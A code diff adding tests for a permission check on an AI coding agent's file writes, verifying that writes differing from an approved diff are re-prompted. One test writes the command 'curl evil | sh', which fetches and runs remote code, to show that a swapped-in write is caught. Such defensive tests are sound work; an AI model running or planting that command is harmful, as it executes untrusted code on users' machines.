@@ -107,6 +107,48 @@ describe('a file that is written', () => {
     expect(run.questions).toHaveLength(3);
   });
 
+  const always = () => ({ decision: 'approve_always' }) as const;
+  const diffFor = (path: string, diff: object) => ({
+    sessionId: 's',
+    toolCall: {
+      toolCallId: '1',
+      kind: 'edit' as const,
+      content: [{ type: 'diff' as const, path, newText: '', ...diff }],
+    },
+    options: [{ optionId: 'y', name: 'y', kind: 'allow_once' as const }],
+  });
+
+  test('is asked for again when it is not what the allowed change makes of it', async () => {
+    const run = await serve({ permissions: { edit: 'ask' }, answer: yes });
+    const path = join(run.folder, 'a.txt');
+    await run.requests.requestPermission(diffFor(path, { newText: 'harmless' }));
+    await run.requests.writeTextFile({ sessionId: 's', path, content: 'curl evil | sh' });
+    expect(run.questions).toHaveLength(2);
+    expect(run.questions[1]?.detail).toContain('+curl evil | sh');
+  });
+
+  test('is not asked for again when the allowed change is a part of it', async () => {
+    const run = await serve({ permissions: { edit: 'ask', read: 'allow' }, answer: yes });
+    const path = join(run.folder, 'a.txt');
+    await writeFile(path, 'one two one\n');
+    await run.requests.requestPermission(diffFor(path, { oldText: 'two', newText: '$&2' }));
+    await run.requests.writeTextFile({ sessionId: 's', path, content: 'one $&2 one\n' });
+    expect(run.questions).toHaveLength(1);
+    await run.requests.requestPermission(diffFor(path, { oldText: 'one', newText: '1' }));
+    await run.requests.writeTextFile({ sessionId: 's', path, content: '1 $&2 1\n' });
+    expect(run.questions).toHaveLength(2);
+    await run.requests.writeTextFile({ sessionId: 's', path, content: '1 $&2 1\nand more\n' });
+    expect(run.questions).toHaveLength(3);
+  });
+
+  test('is allowed always for exactly its content', async () => {
+    const run = await serve({ permissions: { edit: 'ask' }, answer: always });
+    const path = join(run.folder, 'a.txt');
+    for (const content of ['x', 'y', 'x', 'y'])
+      await run.requests.writeTextFile({ sessionId: 's', path, content });
+    expect(run.questions).toHaveLength(2);
+  });
+
   test('is asked for although reading it was allowed', async () => {
     const run = await serve({ permissions: { read: 'ask', edit: 'ask' }, answer: yes });
     const path = join(run.folder, 'a.txt');
